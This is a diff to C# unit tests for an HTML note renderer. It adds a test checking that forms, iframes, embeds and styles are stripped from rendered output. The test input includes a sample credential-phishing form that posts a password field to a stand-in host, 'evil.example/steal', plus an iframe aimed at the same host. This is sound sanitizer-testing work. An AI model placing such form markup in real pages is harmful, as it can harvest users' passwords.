@@ -43,11 +43,32 @@ public class NoteHtmlRendererTests
         Assert.Contains("<h2 id=\"results\">Results</h2>", html);
         Assert.Contains("<td style=\"text-align: right\">2</td>", html);
         Assert.Contains("<code class=\"language-go\">", html);
-        Assert.Contains("<input disabled=\"disabled\" type=\"checkbox\" checked=\"checked\"> done", html);
+        Assert.Contains("<li class=\"task-list-item\">☑ done</li>", html);
         Assert.Contains("<img src=\"https://go.dev/gopher.png\" alt=\"gopher\">", html);
         Assert.Contains("<a href=\"/notes/home\">home</a>", html);
         Assert.Contains("<del>old</del>", html);
     }
+
+    [Fact]
+    public void FormsControlsFramesAndEmbedsAreDroppedWithTheirContent()
+    {
+        var html = NoteHtmlRenderer.ToHtml("""
+            Before.
+
+            <form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button>
+            <select><option>a</option></select><textarea>t</textarea></form>
+            <iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><style>p { display: none }</style>
+
+            After <label>labelled</label>.
+            """);
+
+        Assert.Equal("<p>Before.</p><p>After .</p>", html.Replace("\n", ""));
+    }
+
+    [Fact]
+    public void AnOpenTaskIsAnEmptyBoxNotAnInput() =>
+        Assert.Equal("<ul class=\"contains-task-list\"><li class=\"task-list-item\">☐ todo</li></ul>",
+            NoteHtmlRenderer.ToHtml("- [ ] todo\n").Replace("\n", ""));
 
     [Fact]
     public void DataUrlImagesAreDropped() =>
